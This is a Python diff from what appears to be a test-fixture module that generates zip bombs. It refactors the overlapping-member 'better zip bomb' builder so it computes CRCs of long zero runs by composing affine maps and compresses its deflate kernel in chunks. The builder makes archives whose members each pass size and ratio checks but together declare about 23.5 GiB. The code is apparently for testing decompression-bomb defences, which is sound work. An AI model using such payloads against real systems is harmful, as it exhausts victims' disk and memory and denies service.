@@ -164,20 +164,37 @@ def deflate_understated(folder: Path) -> Path:
 # -- overlapping members: David Fifield's "better zip bomb" ------------------------------------
 
 
-def _crc_after(data_crc_of: Callable[[int], int]) -> Callable[[int], int]:
-    """zlib.crc32(Z, start) is affine in `start`: learn it from 33 runs over Z, then apply
-    it to any start value without reading Z again."""
-    constant = data_crc_of(0)
-    columns = [data_crc_of(1 << bit) ^ constant for bit in range(32)]
+Affine = tuple[list[int], int]  # a map s -> (columns x s) ^ constant over GF(2)^32
 
-    def after(start: int) -> int:
-        value = constant
-        for bit in range(32):
-            if start >> bit & 1:
-                value ^= columns[bit]
-        return value
 
-    return after
+def _learn(function: Callable[[int], int]) -> Affine:
+    constant = function(0)
+    return [function(1 << bit) ^ constant for bit in range(32)], constant
+
+
+def _apply(affine: Affine, value: int) -> int:
+    columns, result = affine
+    for bit in range(32):
+        if value >> bit & 1:
+            result ^= columns[bit]
+    return result
+
+
+def _then(first: Affine, second: Affine) -> Affine:
+    """The map `second(first(s))`."""
+    constant = _apply(second, first[1])
+    return [_apply(second, column) ^ second[1] for column in first[0]], constant
+
+
+def crc_after_zeros(count: int) -> Callable[[int], int]:
+    """start -> zlib.crc32(bytes(count), start), without reading `count` bytes: the CRC
+    update is affine in its start value, so the map for one zero byte is squared up."""
+    step, total = _learn(lambda start: zlib.crc32(b"\0", start)), None
+    while count:
+        if count & 1:
+            total = step if total is None else _then(total, step)
+        step, count = _then(step, step), count >> 1
+    return lambda start: start if total is None else _apply(total, start)
 
 
 def overlap_bomb(folder: Path, files: int = 256, kernel_bytes: int = 94 << 20) -> Path:
@@ -186,15 +203,16 @@ def overlap_bomb(folder: Path, files: int = 256, kernel_bytes: int = 94 << 20) -
     all of them end in one shared deflate kernel of `kernel_bytes` zeros. Every member passes
     the size and ratio limits on its own (the kernel is deflated at level 1, about 230:1);
     together they declare files x kernel_bytes (23.5 GiB with the defaults)."""
-    kernel_data = bytes(kernel_bytes)
     packer = zlib.compressobj(1, zlib.DEFLATED, -15)
-    kernel = packer.compress(kernel_data) + packer.flush()
-    after = _crc_after(lambda start: zlib.crc32(kernel_data, start))
+    chunk = bytes(1 << 20)
+    kernel = b"".join(packer.compress(chunk) for _ in range(kernel_bytes >> 20))
+    kernel += packer.compress(bytes(kernel_bytes & ((1 << 20) - 1))) + packer.flush()
+    after = crc_after_zeros(kernel_bytes)
     names = [f"bomb/{i:04d}.bin".encode() for i in range(files)]
     quote = 5  # a stored block's header: 1 byte (BFINAL=0, BTYPE=00), LEN, NLEN
     # Member i inflates to the local headers of members i+1.. and the kernel's output.
     usize, csize, crc = [0] * files, [0] * files, [0] * files
-    usize[-1], csize[-1], crc[-1] = kernel_bytes, len(kernel), zlib.crc32(kernel_data)
+    usize[-1], csize[-1], crc[-1] = kernel_bytes, len(kernel), after(0)
     headers: list[bytes] = [b""] * files
 
     def header(i: int) -> bytes:
